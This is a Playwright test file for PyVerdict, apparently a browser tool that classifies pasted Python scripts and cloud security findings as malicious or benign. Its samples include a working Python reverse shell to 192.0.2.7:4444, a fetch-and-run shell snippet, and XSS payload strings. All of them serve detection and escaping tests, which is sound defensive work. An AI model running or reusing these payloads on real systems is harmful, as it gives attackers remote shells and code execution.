import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { example, fact, openCode, openTab, paste, shownCode, start, verdict } from './support.mjs';

const { address, inPage, stop } = await start();
after(stop);

const shell = `import socket, os, pty
s = socket.socket()
s.connect(("192.0.2.7", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
pty.spawn("/bin/sh")
`;

test('the paste box has the focus, and the page says where the data goes', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    assert.equal(
      await page.evaluate(() => {
        let element = document.activeElement;
        while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
        return element?.tagName;
      }),
      'TEXTAREA',
    );
    assert.match(await page.locator('pv-start .privacy').innerText(), /never executed, sent or stored/);
  }));

test('a pasted script is analysed at once', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
    assert.match(
      await page.locator('pv-verdict-card section').innerText(),
      /For a benign reading: nothing found/,
    );
    assert.match(
      (await page.locator('[role=status]').first().textContent()) ?? '',
      /^Verdict: Malicious\. Score /,
    );
    assert.equal(await fact(page, 'Contents'), `${shell.length} bytes, utf-8, Python 2 or 3`);
  }));

test('a reason leads to the line that proves it', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    const reason = page.locator('pv-verdict-card .reasons button').first();
    assert.equal(await reason.innerText(), 'lines 4–6');
    await reason.click();
    await page.locator('.pv-target').first().waitFor();
    const marked = await page.locator('.cm-line:has(.pv-target)').first().innerText();
    assert.equal(marked, shell.split('\n')[3]);
    assert.ok((await page.locator('.pv-note').count()) > 0);
    assert.ok((await page.locator('.pv-mark').count()) > 0);
    const classes = await page.evaluate(() => {
      let element = document.activeElement;
      while (element?.shadowRoot?.activeElement) element = element.shadowRoot.activeElement;
      return element?.className;
    });
    assert.match(classes ?? '', /cm-content/);
  }));

test('line numbers stand beside their lines, notes or not', () =>
  inPage({ viewport: { width: 900, height: 500 } }, async (page) => {
    await paste(page, shell);
    await page.locator('.cm-line').first().waitFor();
    await page.locator('pv-code-view').scrollIntoViewIfNeeded();
    await page.waitForTimeout(200);
    const tops = (/** @type {string} */ selector) =>
      page
        .locator(selector)
        .evaluateAll((elements) =>
          elements.map((element) => Math.round(element.getBoundingClientRect().top)),
        );
    const lines = await tops('.cm-line');
    const numbers = (await tops('.cm-lineNumbers .cm-gutterElement')).slice(1);
    assert.equal(numbers.length, lines.length);
    for (const [index, top] of lines.entries())
      assert.ok(Math.abs(top - numbers[index]) <= 2, `line ${index + 1}: ${top}, ${numbers[index]}`);
  }));

test('a pasted finding shows the facts under the console’s names, and what was checked', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    assert.equal(await verdict(page), 'Malicious');
    assert.equal(await fact(page, 'Finding'), 'Execution: Malicious Python executed');
    assert.equal(await fact(page, 'Program binary'), '/usr/local/bin/python3.12');
    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
    assert.equal(await fact(page, 'Arguments'), 'python3 /tmp/.cache/u.py');
    assert.match(await fact(page, 'Resource full name'), /^\/\/run\.googleapis\.com\/projects\/shop-prod\//);
    assert.match(await fact(page, 'Event time'), /^2026-03-04 05:06:07/);
    assert.match(await fact(page, 'SHA-256'), /matches the finding/);
    assert.match(await fact(page, 'Contents'), /^complete, /);
    const href = await page.locator('pv-facts a').first().getAttribute('href');
    assert.match(href ?? '', /^https:\/\/www\.virustotal\.com\/gui\/file\/[0-9a-f]{64}$/);
  }));

test('layers: the innermost is one click away, and its path is shown', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    await openCode(page);
    const items = page.locator('pv-layer-tree [role=treeitem]');
    await items.nth(2).click();
    assert.equal(await items.count(), 3);
    await page.locator('.cm-line').first().waitFor();
    assert.match(await shownCode(page), /pty\.spawn/);
    const path = await page.locator('.path li').allInnerTexts();
    assert.deepEqual(path, ['Paste', 'Finding', 'Layer 0', 'Layer 1', 'Layer 2']);
    await items.nth(0).click();
    await page.waitForFunction(() => true);
    assert.match(await shownCode(page), /zlib\.decompress/);
    assert.deepEqual(await page.locator('.path li').allInnerTexts(), path);
  }));

test('every tab shows what the report holds', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    await openTab(page, 'layers');
    assert.equal(await page.locator('pv-layers-view [role=treeitem]').count(), 3);
    await page.locator('pv-layers-view [role=treeitem]').nth(1).click();
    const [parent, child] = await page.locator('pv-layers-view .two section').all();
    await parent.locator('.pv-target').first().waitFor();
    assert.match(await parent.innerText(), /Layer 0 built at line 4/);
    assert.match(await parent.locator('.pv-target').first().innerText(), /^eJw|b64decode|exec/);
    assert.match(await child.locator('.cm-content').innerText(), /b64decode/);
    await openTab(page, 'indicators');
    assert.match(
      await page.locator('pv-indicators-view .wrap').innerText(),
      /192\.0\.2\[\.\]7|192\[\.\]0\[\.\]2\[\.\]7/,
    );
    await openTab(page, 'attack');
    const technique = page.locator('pv-attack-view a').first();
    assert.match(
      (await technique.getAttribute('href')) ?? '',
      /^https:\/\/attack\.mitre\.org\/techniques\/T/,
    );
    assert.equal(await technique.getAttribute('rel'), 'noreferrer noopener');
    assert.equal(await technique.getAttribute('target'), '_blank');
    await page.locator('pv-attack-view button.link').first().click();
    await page.locator('.pv-target').first().waitFor();
    await openTab(page, 'json');
    await page.locator('.cm-line').first().waitFor();
    assert.match(await shownCode(page), /"schemaVersion": "1\.0"/);
    await openTab(page, 'diagnostics');
    assert.match(
      await page.locator('pv-diagnostics-view .wrap').innerText(),
      /Everything was read|could not be read/,
    );
  }));

test('an opened file is read as bytes: its encoding counts', () =>
  inPage({}, async (page) => {
    const text = 'print("olá")\n';
    const buffer = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    await page.locator('#files').setInputFiles({ name: 'wide.py', mimeType: 'text/x-python', buffer });
    assert.equal(await verdict(page), 'Benign');
    assert.equal(await fact(page, 'Name'), 'wide.py');
    assert.match(await fact(page, 'Contents'), /^28 bytes, utf-16-le/);
    assert.match(await page.locator('pv-verdict-card section').innerText(), /Not looked at:/);
  }));

test('dropped files are analysed one after the other, and listed', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    await page.evaluate((script) => {
      const data = new DataTransfer();
      data.items.add(new File([script], 'shell.py'));
      data.items.add(new File(['print(1)\n'], 'one.py'));
      for (const type of ['dragenter', 'dragover', 'drop']) {
        document.body.dispatchEvent(
          new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true, composed: true }),
        );
      }
    }, shell);
    await page.locator('[role=option]').nth(1).waitFor();
    assert.deepEqual(await page.locator('[role=option] .name').allInnerTexts(), ['shell.py', 'one.py']);
    assert.equal(await verdict(page), 'Malicious');
  }));

test('several findings: arrow keys go from one to the next, and they can be sorted', () =>
  inPage({}, async (page) => {
    await paste(page, example('several.json'));
    const list = page.locator('[role=listbox]');
    await list.focus();
    assert.equal(await page.locator('[role=option]').count(), 4);
    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
    await page.keyboard.press('ArrowDown');
    assert.equal(await fact(page, 'Script'), '/tmp/s.py');
    await page.keyboard.press('End');
    assert.equal(await verdict(page), 'Inconclusive');
    await page.keyboard.press('Home');
    assert.equal(await fact(page, 'Script'), '/tmp/.cache/u.py');
    await page.locator('pv-report-list select').selectOption('time');
    assert.match((await page.locator('[role=option]').first().innerText()) ?? '', /disk_report\.py/);
  }));

test('a truncated finding is not called benign, and the page says what to fetch', () =>
  inPage({}, async (page) => {
    await paste(page, example('truncated.json'));
    assert.equal(await verdict(page), 'Inconclusive');
    assert.match(
      await page.locator('pv-verdict-card section').innerText(),
      /What to fetch next: the whole script/,
    );
    assert.match(await fact(page, 'Contents'), /^truncated, /);
    assert.equal(await page.locator('pv-score-scale [role=img]').getAttribute('aria-label'), 'No score');
    // The model has no word on a beginning that shows nothing; that the rest is to be fetched stays.
    await openTab(page, 'json');
    await page.locator('pv-json-view', { hasText: '"basis": "model"' }).waitFor();
    assert.equal(await verdict(page), 'Inconclusive');
    await page.locator('pv-verdict-card .next:has-text("the whole script")').waitFor();
  }));

test('the title of the page says the verdict, and nothing of what was pasted', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
    assert.equal(await page.title(), 'Malicious · PyVerdict');
    await page.locator('#new').click();
    await page.locator('textarea').waitFor();
    assert.equal(await page.title(), 'PyVerdict');
  }));

test('a finding of another kind is not asked for a script', () =>
  inPage({}, async (page) => {
    const other = { name: 'organizations/1/sources/2/findings/3', category: 'Malware: Bad Domain' };
    await paste(page, JSON.stringify({ finding: other, resource: { name: '//example.invalid/x' } }));
    await page.locator('pv-verdict-card .next:has-text("something else than a script")').waitFor();
    await page.locator('#new').click();
    await page.locator('textarea').waitFor();
    other.category = 'Execution: Malicious Python executed';
    await paste(page, JSON.stringify({ finding: other, resource: { name: '//example.invalid/x' } }));
    await page.locator('pv-verdict-card .next:has-text("the script that the finding names")').waitFor();
  }));

test('JSON that is no finding says so, and where', () =>
  inPage({}, async (page) => {
    await paste(page, '{"finding": {"severity": "LOW"}, "resource": {}}');
    assert.equal(await verdict(page), 'Inconclusive');
    assert.match(await page.locator('pv-verdict-card section').innerText(), /finding/);
    assert.ok((await page.locator('pv-verdict-card .limits li').count()) > 1);
    await page.locator('pv-verdict-card .score:not(:has-text("being loaded"))').waitFor();
    assert.equal((await page.locator('pv-verdict-card .score').innerText()).trim(), 'No score');
  }));

test('a bound that was hit stands beside the verdict', () =>
  inPage({}, async (page) => {
    await paste(page, `x = ${'('.repeat(3000)}1${')'.repeat(3000)}\n`);
    await page.locator('pv-verdict-card').waitFor();
    assert.match(await page.locator('pv-verdict-card .limits').innerText(), /Nesting beyond the limit/);
    await page.locator('pv-verdict-card .limits button').click();
    assert.match(await page.locator('pv-diagnostics-view .wrap').innerText(), /nestingTooDeep/);
  }));

test('places that could not be read are lines that one can go to, the same kind taken together', () =>
  inPage({}, async (page) => {
    await paste(page, '# São João\nimport os\nx = = 1\nos.remove(__file__)\ny = = 2\n');
    await openTab(page, 'diagnostics');
    const kind = page.locator('pv-diagnostics-view li:has-text("not valid Python")');
    await kind.first().waitFor();
    assert.equal(await kind.count(), 1);
    assert.deepEqual(await kind.locator('button').allInnerTexts(), ['line 3', 'line 5']);
    await kind.locator('button').first().click();
    await page.locator('.pv-target').first().waitFor();
    assert.equal(await page.locator('.cm-line:has(.pv-target)').innerText(), 'x = = 1');
  }));

test('the report is copied as Markdown and downloaded as JSON', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    await page.locator('#markdown').click();
    await page.locator('#markdown:text-is("Copied")').waitFor();
    const markdown = await page.evaluate(() => navigator.clipboard.readText());
    assert.match(markdown, /malicious/i);
    assert.match(markdown, /192\[\.\]0\[\.\]2\[\.\]7/, 'indicators are defanged in a ticket');
    const download = await saved(page, 'json');
    assert.match(download.suggestedFilename(), /^pyverdict-[0-9a-f]{12}\.json$/);
    assert.equal(JSON.parse(await contents(download)).verdict.label, 'malicious');
  }));

/** @param {import('playwright-core').Page} page @param {string} form */
async function saved(page, form) {
  await page.locator('#save').click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator(`#save-${form}`).click(),
  ]);
  return download;
}

/** @param {import('playwright-core').Download} download */
async function contents(download) {
  const chunks = [];
  for await (const chunk of await download.createReadStream()) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

test('the report is saved as one HTML file that runs nothing and keeps hostile text as text', () =>
  inPage({}, async (page) => {
    const hostile = '</pre><script>window.__pwned=1</script><img src=x onerror=window.__pwned=2>';
    await paste(page, `${shell}x = "${hostile}\u202e"  # ${hostile}\n`);
    const download = await saved(page, 'html');
    assert.match(download.suggestedFilename(), /^pyverdict-[0-9a-f]{12}\.html$/);
    const html = await contents(download);
    assert.match(html, /default-src 'none'; style-src 'unsafe-inline'/);
    assert.doesNotMatch(html, /<script|<img|\son\w+=(?!window)/);
    assert.doesNotMatch(html, /<!--/);
    const file = await page.context().newPage();
    await file.setContent(html);
    assert.equal(await file.locator('h1').innerText(), 'Malicious');
    assert.match(await file.locator('pre').innerText(), /<\/pre><script>window\.__pwned=1/);
    assert.equal(await file.evaluate(() => /** @type {any} */ (window).__pwned), undefined);
  }));

test('what a script would fetch is shown with where it lands, and whether it is run', () =>
  inPage({}, async (page) => {
    await paste(
      page,
      `import os, urllib.request
urllib.request.urlretrieve("http://files.example.invalid/a.sh", "/tmp/a.sh")
os.system("sh /tmp/a.sh")
`,
    );
    await page.locator('#tab-indicators').click();
    const row = page.locator('pv-fetches-view tbody tr').first();
    const text = await row.innerText();
    assert.match(text, /files\[\.\]example\[\.\]invalid\/a\.sh/);
    assert.match(text, /urlretrieve/);
    assert.match(text, /file \/tmp\/a\.sh/);
    assert.match(text, /run/);
    await row.locator('button.link').click();
    await page.locator('.cm-line:has(.pv-target)').first().waitFor();
  }));

test('indicators are saved as CSV, and what is printed is the whole report', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    const rows = (await contents(await saved(page, 'csv'))).trim().split('\r\n');
    assert.match(rows[0], /type.*value/);
    assert.ok(
      rows.some((row) => /192\[?\.\]?0\[?\.\]?2\[?\.\]?7/.test(row)),
      rows.join('\n'),
    );
    assert.match(await contents(await saved(page, 'markdown')), /192\[\.\]0/);
    await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
    await page.emulateMedia({ media: 'print' });
    const text = await page.locator('pv-print-view .paper').innerText();
    assert.match(text, /Malicious[^]*Execution: Malicious Python executed[^]*pty\.spawn/);
    assert.match(text, /192\[\.\]0\[\.\]2\[\.\]7\s+Command and control/);
    // A command on paper says what it would do, as it does on the screen.
    assert.match(text, /Contain\s[^]*Deletes the revision\. changes something\s+gcloud run revisions delete/);
    assert.match(text, /Lists the revisions[^\n]* only reads\s/);
    assert.equal(await page.locator('pv-workspace').isVisible(), false);
    await page.emulateMedia({ media: 'screen' });
    await page.evaluate(() => dispatchEvent(new Event('afterprint')));
    assert.equal(await page.locator('pv-print-view').isVisible(), false);
  }));

test('back and forward go through what was shown', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    await paste(page, example('reverse-shell.json'));
    await openTab(page, 'layers');
    await page.locator('pv-layers-view [role=treeitem]').nth(0).click();
    await page.locator('pv-verdict-card .reasons button').first().click();
    await page.locator('.pv-target').first().waitFor();
    const tab = () => page.locator('[role=tab][aria-selected=true]').getAttribute('id');
    assert.equal(await tab(), 'tab-code');
    await page.goBack();
    await page.locator('pv-layers-view').waitFor();
    await page.goBack();
    await page.goBack();
    assert.equal(await tab(), 'tab-summary');
    await page.goBack();
    await page.locator('textarea').waitFor();
    await page.goForward();
    assert.equal(await verdict(page), 'Malicious');
    await paste(page, 'print(1)\n');
    await page.locator('pv-verdict-card h1:has-text("Benign")').waitFor();
    await page.goBack();
    await page.locator('pv-verdict-card h1:has-text("Malicious")').waitFor();
    assert.equal(await page.evaluate(() => location.href), `${address}/`);
  }));

test('the findings of one paste stand in time, and lead to each other', () =>
  inPage({}, async (page) => {
    await paste(page, example('several.json'));
    await openTab(page, 'related');
    const times = await page.locator('pv-related-view .when').allInnerTexts();
    assert.equal(times.length, 4);
    assert.deepEqual(times, times.toSorted());
    await page.locator('pv-related-view .time button').last().click();
    assert.equal(
      await page.locator('pv-related-view .time button').last().getAttribute('aria-current'),
      'true',
    );
  }));

test('an archive is opened: Python and findings are read, the rest is named', () =>
  inPage({}, async (page) => {
    const { zipSync, strToU8 } = await import('fflate');
    const buffer = Buffer.from(
      zipSync({
        'a/shell.py': strToU8(shell),
        'a/finding.json': strToU8(example('reverse-shell.json')),
        'a/<img src=x onerror=alert(1)>.bin': new Uint8Array(9),
        'empty/': new Uint8Array(0),
      }),
    );
    await page.locator('#files').setInputFiles({ name: 'case.zip', mimeType: 'application/zip', buffer });
    await page.locator('[role=option]').nth(1).waitFor();
    assert.deepEqual(await page.locator('[role=option] .name').allInnerTexts(), [
      'case.zip/a/shell.py',
      '/tmp/.cache/u.py',
    ]);
    assert.match(
      await page.locator('pv-notice').innerText(),
      /case\.zip\/a\/<img src=x onerror=alert\(1\)>\.bin$/,
    );
  }));

test('an archive that is broken, and one that is far larger than it looks, are left out and named', () =>
  inPage({}, async (page) => {
    const { zipSync } = await import('fflate');
    const bomb = Buffer.from(zipSync({ 'zeros.py': [new Uint8Array(300 << 20), { level: 9 }] }));
    const broken = Buffer.from(zipSync({ 'one.py': Buffer.from(shell) })).subarray(0, 60);
    for (const [name, buffer] of /** @type {const} */ ([
      ['bomb.zip', bomb],
      ['broken.zip', broken],
    ])) {
      await page.locator('#files').setInputFiles({ name, mimeType: 'application/zip', buffer });
      await page.locator(`pv-notice:has-text("${name}")`).waitFor();
    }
  }));

test('an analysis that takes long shows progress, and can be cancelled', () =>
  inPage({ goto: false }, async (page) => {
    /** @type {(value?: unknown) => void} */
    let release = () => {};
    const held = new Promise((resolve) => (release = resolve));
    await page.route('**/*.wasm', async (route) => {
      await held;
      await route.continue();
    });
    await page.goto(address);
    await paste(page, shell);
    await page.locator('#cancel').waitFor();
    assert.equal(await page.locator('pv-working [role=progressbar]').count(), 1);
    await page.locator('#cancel').click();
    await page.locator('textarea').waitFor();
    release();
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
  }));

test('cancelling ends the work itself, and the next analysis is a fresh one', () =>
  inPage({}, async (page) => {
    await page.locator('textarea').waitFor();
    await page.evaluate(() => {
      const line = 'exec(base64.b64decode("cHJpbnQoMSk=")); value = [ord(c) ^ 7 for c in "abcdefgh"]\n';
      const data = new DataTransfer();
      data.items.add(new File([`import base64\n${line.repeat(600_000)}`], 'large.py'));
      document.body.dispatchEvent(
        new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true, composed: true }),
      );
    });
    await page.locator('#cancel').waitFor();
    await page.locator('#cancel').click();
    await page.locator('textarea').waitFor();
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
  }));

test('after a verdict, another paste is another analysis, and New empties the page', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
    await paste(page, 'print(1)\n');
    await page.locator('pv-verdict-card h1:has-text("Benign")').waitFor();
    await page.locator('#new').click();
    await page.locator('textarea').waitFor();
    assert.equal(await page.locator('pv-verdict-card').count(), 0);
  }));

test('without WebAssembly the page says so, and offers nothing that cannot work', () =>
  inPage({ init: 'delete globalThis.WebAssembly;' }, async (page) => {
    assert.match(await page.locator('pv-notice h2').innerText(), /This browser runs no WebAssembly/);
    assert.equal(await page.locator('#open').isDisabled(), true);
    await page.locator('textarea').fill(shell);
    assert.equal(await page.locator('#analyze').isDisabled(), true);
  }));

test('in a browser whose WebAssembly has no SIMD the page works, and says why there is no model', async () => {
  // Chromium has none on processors without SSE 4.1.
  const old = await start(['--js-flags=--no-enable-sse4-1']);
  try {
    await old.inPage({}, async (page) => {
      await paste(page, shell);
      assert.equal(await verdict(page), 'Malicious');
      await page.locator('pv-verdict-card .score:has-text("could not be used")').waitFor();
      await openTab(page, 'diagnostics');
      await page
        .locator('pv-diagnostics-view li:has-text("needs WebAssembly with vector instructions")')
        .waitFor();
    });
  } finally {
    await old.stop();
  }
});

test('a core that breaks off on its way is asked for again', () =>
  inPage({ goto: false, broken: /\.wasm$/ }, async (page) => {
    let asked = 0;
    await page.route('**/*.wasm', (route) => {
      asked += 1;
      return asked <= 2 ? route.abort('connectionreset') : route.continue();
    });
    await page.goto(address);
    await paste(page, shell);
    assert.equal(await verdict(page), 'Malicious');
    assert.ok(asked >= 3);
  }));

test('when the analysis cannot be loaded the page says so, and why', () =>
  inPage({ goto: false }, async (page) => {
    await page.route('**/*.wasm', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Sign in</title>' }),
    );
    await page.goto(address);
    await page.locator('pv-notice h2:text-is("The analysis could not be loaded")').waitFor();
    assert.match(await page.locator('pv-notice').innerText(), /HTML instead of WebAssembly/);
    assert.equal(await page.locator('#open').isDisabled(), true);
  }));

test('the search panel finds text in the code', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    await page.locator('.cm-line').first().waitFor();
    await page.locator('#search').click();
    await page.locator('.cm-search input[name=search]').pressSequentially('dup2');
    await page.locator('.cm-searchMatch').first().waitFor();
    assert.equal(await page.locator('.cm-searchMatch').count(), 2);
  }));

test('the sentences of a report change with the language, and stay where they are', () =>
  inPage({}, async (page) => {
    await paste(page, example('several.json'));
    await page.locator('[role=option]').nth(1).click();
    await openTab(page, 'response');
    const step = page.locator('pv-response-view .step b').first();
    const before = await step.innerText();
    await page.locator('#language').click();
    await page.locator('#tab-response:has-text("Resposta")').waitFor();
    for (let waited = 0; (await step.innerText()) === before && waited < 100; waited += 1)
      await page.waitForTimeout(100);
    assert.notEqual(await step.innerText(), before);
    assert.equal(await page.locator('[role=tab][aria-selected=true]').getAttribute('id'), 'tab-response');
    assert.equal(await page.locator('[role=option]').nth(1).getAttribute('aria-selected'), 'true');
  }));

test('a finding has a response plan with commands, and relations that lead to the other', () =>
  inPage({}, async (page) => {
    await paste(page, example('several.json'));
    await openTab(page, 'response');
    assert.ok((await page.locator('pv-response-view .step').count()) > 3);
    assert.match(await page.locator('pv-response-view .command code').first().innerText(), /^gcloud /);
    await openTab(page, 'related');
    const relation = page.locator('pv-related-view .relation').first();
    await relation.locator('.head button').click();
    assert.notEqual(await page.locator('[role=option][aria-selected=true]').getAttribute('id'), 'report-0');
  }));

test('reports are saved in the forms of other tools', () =>
  inPage({}, async (page) => {
    await paste(page, example('reverse-shell.json'));
    for (const [form, mark] of /** @type {const} */ ([
      ['sarif', '"2.1.0"'],
      ['stix', '"bundle"'],
      ['navigator', '"techniques"'],
      ['misp', '"Event"'],
    ])) {
      const text = await contents(await saved(page, form));
      assert.equal(typeof JSON.parse(text), 'object');
      assert.ok(text.includes(mark), form);
    }
  }));

test('the language changes all words, and is kept', () =>
  inPage({}, async (page) => {
    await page.locator('#language').click();
    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
    await page.reload();
    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
    assert.equal(await page.evaluate(() => document.documentElement.lang), 'pt-PT');
    await paste(page, example('reverse-shell.json'));
    assert.equal(await verdict(page), 'Malicioso');
    assert.match(await fact(page, 'Nome completo do recurso'), /^\/\/run/);
  }));

test('the language follows the browser', () =>
  inPage({ locale: 'pt-PT' }, async (page) => {
    assert.equal(await page.locator('h1').innerText(), 'O que fez este Python?');
  }));

test('the theme follows the system until one is chosen', () =>
  inPage({ colorScheme: 'dark' }, async (page) => {
    const background = () => page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    const dark = await background();
    await page.locator('#theme').click();
    assert.notEqual(await background(), dark);
    await page.reload();
    assert.notEqual(await background(), dark);
    await page.locator('#theme').click();
    assert.equal(await background(), dark);
  }));

test('nothing that was pasted is stored', () =>
  inPage({}, async (page) => {
    await paste(page, shell);
    await verdict(page);
    await page.locator('#language').click();
    const stored = await page.evaluate(async () => ({
      local: Object.keys(localStorage),
      session: Object.keys(sessionStorage),
      databases: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      cookie: document.cookie,
      url: location.href,
    }));
    assert.deepEqual(stored, {
      local: ['pyverdict-language'],
      session: [],
      databases: 0,
      caches: 0,
      cookie: '',
      url: `${address}/`,
    });
  }));

for (const width of [360, 768, 1600]) {
  test(`at ${width} pixels nothing scrolls sideways`, () =>
    inPage({ viewport: { width, height: 740 } }, async (page) => {
      const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      await page.locator('textarea').waitFor();
      assert.ok((await overflow()) <= 0, 'empty');
      for (const name of ['reverse-shell.json', 'several.json']) {
        await page.goto(address);
        await paste(page, example(name));
        await openCode(page);
        for (const tab of /** @type {const} */ ([
          'summary',
          'code',
          'layers',
          'indicators',
          'attack',
          'diagnostics',
          'json',
        ])) {
          await openTab(page, tab);
          assert.ok((await overflow()) <= 0, `${name}, ${tab}`);
        }
      }
    }));
}
